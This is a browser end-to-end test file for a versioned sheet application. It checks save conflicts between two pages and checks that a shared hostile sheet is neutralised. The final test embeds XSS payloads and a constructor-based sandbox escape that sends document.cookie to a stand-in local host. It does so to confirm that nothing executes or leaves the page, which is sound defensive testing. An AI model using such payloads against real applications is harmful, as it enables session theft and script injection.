import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import {
  appUrl,
  launchBrowser,
  signIn,
  signUp,
  uniqueEmail,
  watchPageErrors,
  withFailureShot,
} from './browser';

const PASSWORD = 'meander-e2e-password';

async function addCell(page: Page, item: string): Promise<void> {
  await page.getByRole('button', { name: 'Add cell', exact: true }).click();
  await page.getByRole('menuitem', { name: item }).click();
}

/** Creates a sheet through the API with the page's session (the Origin header is the CSRF check). */
async function createSheetByApi(page: Page, body: unknown): Promise<string> {
  const response = await page.request.post(appUrl('/api/sheets'), {
    data: body,
    headers: { Origin: new URL(appUrl()).origin },
  });
  expect(response.status()).toBe(201);
  return ((await response.json()) as { id: string }).id;
}

async function getSheetByApi(page: Page, id: string) {
  const response = await page.request.get(appUrl(`/api/sheets/${id}`));
  expect(response.status()).toBe(200);
  return (await response.json()) as {
    version: number;
    document: { cells: { kind: string; text?: string }[] };
  };
}

describe('saving from two pages and opening hostile sheets', () => {
  let browser: Browser;
  const contexts: BrowserContext[] = [];
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    for (const context of contexts) await context.close().catch(() => undefined);
    await browser?.close();
  });

  it('turns a save from a stale page into a 409 choice and loses neither side', async () => {
    const user = { email: uniqueEmail('two-tabs'), name: 'Rosa Vidal', password: PASSWORD };
    const first = await browser.newContext();
    const second = await browser.newContext();
    contexts.push(first, second);
    const pageA = await first.newPage();
    const pageB = await second.newPage();
    const errors = [...watchPageErrors(pageA)];
    await withFailureShot(pageB, 'conflict', async () => {
      await signUp(pageA, user);
      await pageA.waitForURL(/\/sheets/);
      const id = await createSheetByApi(pageA, { title: 'Estuary salinity' });
      await signIn(pageB, user);
      await pageB.waitForURL(/\/sheets/);

      await pageA.goto(appUrl(`/sheets/${id}`));
      await pageB.goto(appUrl(`/sheets/${id}`));
      await pageA.getByLabel('Version 1').waitFor();
      await pageB.getByLabel('Version 1').waitFor();

      await addCell(pageA, 'Note');
      await pageA.getByRole('button', { name: 'Save version' }).click();
      await pageA.getByRole('textbox', { name: 'Message' }).fill('note from the first page');
      await pageA.getByRole('button', { name: 'Save', exact: true }).click();
      await pageA.getByLabel('Version 2').waitFor();

      await addCell(pageB, 'Parameters');
      await pageB.getByRole('button', { name: 'Save version' }).click();
      await pageB.getByRole('textbox', { name: 'Message' }).fill('parameters from the second page');
      await pageB.getByRole('button', { name: 'Save', exact: true }).click();
      await pageB.getByText('Someone saved first').waitFor();
      await pageB.getByRole('button', { name: 'Save mine as a new sheet' }).click();
      await pageB.waitForURL((url) => /\/sheets\/[^/?]+/.test(url.pathname) && !url.pathname.endsWith(id));

      // The first page's version stands on the original sheet…
      const original = await getSheetByApi(pageA, id);
      expect(original.version).toBe(2);
      expect(original.document.cells.map((cell) => cell.kind)).toEqual(['note']);
      // …and the second page's work lives on as a new sheet.
      const newId = new URL(pageB.url()).pathname.split('/').pop()!;
      const copy = await getSheetByApi(pageB, newId);
      expect(copy.document.cells.map((cell) => cell.kind)).toEqual(['params']);
    });
    expect(errors).toEqual([]);
  });

  it('keeps the second page’s work as a local copy when it loads the other version', async () => {
    const user = { email: uniqueEmail('load-theirs'), name: 'Kofi Mensah', password: PASSWORD };
    const first = await browser.newContext();
    const second = await browser.newContext();
    contexts.push(first, second);
    const pageA = await first.newPage();
    const pageB = await second.newPage();
    await withFailureShot(pageB, 'conflict-load-theirs', async () => {
      await signUp(pageA, user);
      await pageA.waitForURL(/\/sheets/);
      const id = await createSheetByApi(pageA, { title: 'Glacier melt pulses' });
      await signIn(pageB, user);
      await pageB.waitForURL(/\/sheets/);
      await pageA.goto(appUrl(`/sheets/${id}`));
      await pageB.goto(appUrl(`/sheets/${id}`));
      await pageB.getByLabel('Version 1').waitFor();

      await addCell(pageA, 'Note');
      await pageA.getByRole('button', { name: 'Save version' }).click();
      await pageA.getByRole('textbox', { name: 'Message' }).fill('first');
      await pageA.getByRole('button', { name: 'Save', exact: true }).click();
      await pageA.getByLabel('Version 2').waitFor();

      await addCell(pageB, 'Parameters');
      await pageB.getByRole('button', { name: 'Save version' }).click();
      await pageB.getByRole('textbox', { name: 'Message' }).fill('second');
      await pageB.getByRole('button', { name: 'Save', exact: true }).click();
      await pageB.getByRole('button', { name: 'Load their version' }).click();
      await pageB.getByLabel('Version 2').waitFor();
      await pageB.getByRole('button', { name: 'Keep my changes on top of version 2' }).click();
      await pageB.getByRole('textbox', { name: 'value of parameter 1 (k)' }).waitFor();
    });
  });

  it('shows a compile error for a hostile expression, opens no dialog and sends nothing away', async () => {
    const context = await browser.newContext();
    contexts.push(context);
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', async (dialog) => {
      dialogs.push(dialog.message());
      await dialog.dismiss();
    });
    const origin = new URL(appUrl()).origin;
    const foreignRequests: string[] = [];
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:'))
        foreignRequests.push(url);
    });
    const escape = `constructor.constructor("fetch('http://127.0.0.2:9/stolen?'+document.cookie); alert(1)")()`;
    await withFailureShot(page, 'hostile', async () => {
      await signUp(page, { email: uniqueEmail('wary-reader'), name: 'Hana Kovacs', password: PASSWORD });
      await page.waitForURL(/\/sheets/);
      const id = await createSheetByApi(page, {
        title: 'A sheet someone shared',
        document: {
          schemaVersion: 1,
          title: 'A sheet someone shared',
          cells: [
            {
              id: 'n1',
              kind: 'note',
              text: 'Harmless looking.\n\n<img src=x onerror="alert(2)"><script>alert(3)</script>',
            },
            { id: 'p1', kind: 'params', params: [{ name: 'a', value: 1 }] },
            {
              id: 'm1',
              kind: 'model',
              states: [{ name: 'x', initial: '1', drift: escape, diffusion: { W: 'this.alert(4)' } }],
              noises: [{ name: 'W' }],
            },
            { id: 's1', kind: 'simulation', model: 'm1', t1: 1, steps: 10, paths: 10, seed: 1 },
          ],
        },
      });
      await page.goto(appUrl(`/sheets/${id}`));
      // The note's text shows in its title and, once its reading has loaded, in its body too.
      await page.getByRole('region', { name: 'Cells' }).getByText('Harmless looking.').first().waitFor();
      // The model cell names its problems, and the sheet cannot be run until they are fixed.
      await page.locator('#run-blocked-reason').waitFor();
      expect(await page.getByRole('button', { name: 'Run all' }).isDisabled()).toBe(true);
      await page
        .getByText(/this|constructor|not allowed|member/i)
        .first()
        .waitFor();
      await page.waitForTimeout(1500);
    });
    expect(dialogs).toEqual([]);
    expect(foreignRequests).toEqual([]);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
  });
});
